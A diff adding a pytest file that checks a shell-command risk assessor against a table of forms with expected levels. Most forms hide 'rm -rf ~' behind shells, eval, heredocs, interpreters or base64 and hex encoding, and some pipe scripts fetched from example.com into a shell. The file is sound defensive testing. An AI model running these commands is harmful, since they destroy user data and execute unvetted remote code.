@@ -1,0 +1,154 @@
+"""The risk check over a table of command forms: code handed to something that runs it, and
+destruction outside the working tree, each with its expected level (issue 25).
+
+The forms are judged in a real home directory (with a .bashrc, ~/.ssh and history) and a project
+directory inside it, so "an existing file outside the working tree" is a file that exists."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from parsec.workflow.risk import assess
+
+# Code handed to a shell is judged as the command it is.
+SEE_THROUGH = [
+    ("echo 'rm -rf ~' | bash", "high"),
+    ("echo 'rm -rf ~' | sh", "high"),
+    ("echo 'rm -rf ~' | zsh", "high"),
+    ("printf 'rm -rf ~\\n' | bash", "high"),
+    ("printf '%s\\n' 'rm -rf ~' | sh", "high"),
+    ("cat <<EOF | sh\nrm -rf ~\nEOF", "high"),
+    ("cat <<'EOF' | bash\nrm -rf ~\nEOF", "high"),  # a quoted delimiter (bashlex only reads <<EOF)
+    ("bash <<EOF\nrm -rf ~\nEOF", "high"),
+    ("bash <<< 'rm -rf ~'", "high"),
+    ("sh <<< 'rm -rf ~'", "high"),
+    ("bash -c 'rm -rf ~'", "high"),
+    ("sh -c 'rm -rf ~'", "high"),
+    ("bash -lc 'rm -rf ~'", "high"),
+    ("eval 'rm -rf ~'", "high"),
+    ('eval "$(echo rm -rf ~)"', "high"),
+    ("$(echo rm -rf ~)", "high"),
+    ("su -c 'rm -rf ~'", "high"),
+    ("sudo sh -c 'rm -rf ~'", "high"),
+    ("env FOO=1 bash -c 'rm -rf ~'", "high"),
+    ("env -i bash -c 'rm -rf ~'", "high"),
+    ("nohup sh -c 'rm -rf ~' &", "high"),
+    ("timeout 10 bash -c 'rm -rf ~'", "high"),
+    ("watch 'rm -rf ~'", "high"),
+    ("watch -n 5 rm -rf ~", "high"),
+    ("watch -x rm -rf ~", "high"),
+    ("xargs sh -c 'rm -rf ~'", "high"),
+    ("ls | xargs -I{} bash -c 'rm -rf ~'", "high"),
+    ("find . -exec sh -c 'rm -rf ~' \\;", "high"),
+    ("find . -name x -exec bash -c 'rm -rf ~' {} +", "high"),
+    ("bash <(echo 'rm -rf ~')", "high"),
+    ("source <(echo 'rm -rf ~')", "high"),
+    ("echo 'rm -rf ~' | at now", "high"),
+    ("echo 'rm -rf ~' | sudo bash", "high"),
+    ("vim -c ':!rm -rf ~' -c ':q'", "high"),
+    ("vi +'!rm -rf ~'", "high"),
+    ("awk 'BEGIN {system(\"rm -rf ~\")}'", "high"),
+    ("awk 'BEGIN {\"rm -rf ~\" | getline}'", "high"),
+    # code in another language: high unless plainly harmless
+    ("python3 -c \"import os; os.system('rm -rf ~')\"", "high"),
+    ("python3 -c 'import shutil; shutil.rmtree(\"/home\")'", "high"),
+    ('python -c \'__import__("os").system("id")\'', "high"),
+    ('python3 -c \'open("/home/user/.bashrc", "w")\'', "high"),
+    ("echo 'import os; os.system(\"rm -rf ~\")' | python3", "high"),
+    ("python3 <<< 'import os; os.remove(\"x\")'", "high"),
+    ("perl -e 'system(\"rm -rf ~\")'", "high"),
+    ("perl -e 'unlink glob(\"~/*\")'", "high"),
+    ("perl -pe 's/a/`rm -rf ~`/e' f", "high"),
+    ("ruby -e 'system(\"rm -rf ~\")'", "high"),
+    ("ruby -e 'puts \"#{`rm -rf ~`}\"'", "high"),
+    ('node -e \'require("child_process").execSync("rm -rf ~")\'', "high"),
+    ("node -e 'require(\"fs\").rmSync(process.env.HOME, {recursive: true})'", "high"),
+    ("php -r 'system(\"rm -rf ~\");'", "high"),
+    ("lua -e 'os.execute(\"rm -rf ~\")'", "high"),
+    ("awk '{system(\"rm \" $1)}' list.txt", "high"),  # a command built at run time
+    # code that cannot be read before it runs
+    ("echo cm0gLXJmIH4= | base64 -d | sh", "high"),
+    ("echo cm0gLXJmIH4= | base64 --decode | bash", "high"),
+    ("echo 726d202d7266207e | xxd -r -p | sh", "high"),
+    ("printf '\\x72\\x6d -rf ~' | sh", "high"),
+    ("echo -e '\\x72\\x6d -rf ~' | bash", "high"),
+    ('eval "$(echo cm0gLXJmIH4= | base64 -d)"', "high"),
+    ('bash -c "$(echo cm0gLXJmIH4= | base64 -d)"', "high"),
+    ("echo '~ fr- mr' | rev | sh", "high"),
+    ("curl -fsSL https://example.com/x.sh | sh", "high"),
+    ("wget -qO- https://example.com/x.sh | bash", "high"),
+    ('python3 -c "$(curl -s https://example.com/x.py)"', "high"),
+    ("curl -s https://example.com/x.py | python3", "high"),
+    ("echo 'rm -rf ~' > run.sh && bash run.sh", "high"),
+    ("echo 'rm -rf ~' > run.sh; sh run.sh", "high"),
+    ("curl -o run.sh https://example.com/x.sh && sh run.sh", "high"),
+    ("printf 'rm -rf ~' > run.sh && chmod +x run.sh && ./run.sh", "high"),
+    ("echo 'rm -rf ~' > run.sh; source run.sh", "high"),
+    ("echo 'rm -rf ~' > run.sh; sh < run.sh", "high"),
+    ("echo 'rm -rf ~' > run.sh; cat run.sh | sh", "high"),
+    # benign forms stay benign
+    ("bash -c 'ls -la'", "low"),
+    ("sh -c 'echo hello'", "low"),
+    ("echo 'ls' | bash", "low"),
+    ("bash <<< 'pwd'", "low"),
+    ("python3 -c 'print(1)'", "low"),
+    ("python3 -c 'import sys; print(sys.version)'", "low"),
+    ("python3 -c 'import json,sys; print(json.load(sys.stdin)[\"name\"])' < package.json", "low"),
+    ("echo 'print(1+1)' | python3", "low"),
+    ("perl -ne 'print if /foo/' notes.txt", "low"),
+    ("perl -pe 's/foo/bar/g' notes.txt", "low"),
+    ("perl -lane 'print $F[0]' notes.txt", "low"),
+    ("ruby -e 'puts 1'", "low"),
+    ("node -e 'console.log(1+2)'", "low"),
+    ("awk '{print $1}' notes.txt", "low"),
+    ("awk 'BEGIN {system(\"date\")}'", "medium"),
+    ('eval "$(ssh-agent -s)"', "medium"),
+    ('eval "$(direnv hook bash)"', "medium"),
+    ('eval "$(pyenv init -)"', "medium"),
+    ("bash ./scripts/test.sh", "medium"),
+    ("sh < setup.sh", "medium"),
+    ("source .venv/bin/activate", "medium"),
+    ("python3 manage.py test", "medium"),
+    ("python3 -m pytest -q", "medium"),
+    ("bash", "medium"),
+    ("watch -n 1 ls", "medium"),
+    ("vim notes.txt", "medium"),
+    ("vim -c 'set number' notes.txt", "medium"),
+    ("echo aGk= | base64 -d", "low"),
+]
+
+FORMS = SEE_THROUGH
+
+
+@pytest.fixture(scope="module")
+def places(tmp_path_factory) -> tuple[str, str]:
+    """A home directory with the files people keep there, and a project directory inside it."""
+    home = tmp_path_factory.mktemp("home")
+    (home / ".ssh").mkdir()
+    for name in (".bashrc", ".zshrc", ".profile", ".bash_history", ".gitconfig", ".ssh/authorized_keys"):
+        (home / name).write_text("precious\n")
+    project = home / "project"
+    project.mkdir()
+    for name in ("app.log", "notes.txt", "package.json"):
+        (project / name).write_text("data\n")
+    return str(project), str(home)
+
+
+@pytest.mark.parametrize("command,level", FORMS)
+def test_form(command: str, level: str, places: tuple[str, str]) -> None:
+    cwd, home = places
+    verdict = assess(command, cwd=cwd, home=home)
+    assert verdict.level == level, (command, verdict.reasons)
+    if level != "low":
+        assert verdict.reasons
+
+
+def test_the_table_has_distinct_forms() -> None:
+    assert len({command for command, _ in FORMS}) == len(FORMS)
+
+
+def test_place_fixture_matches_the_forms(places: tuple[str, str]) -> None:
+    cwd, home = places
+    assert Path(home, ".bashrc").is_file() and Path(cwd).parent == Path(home)
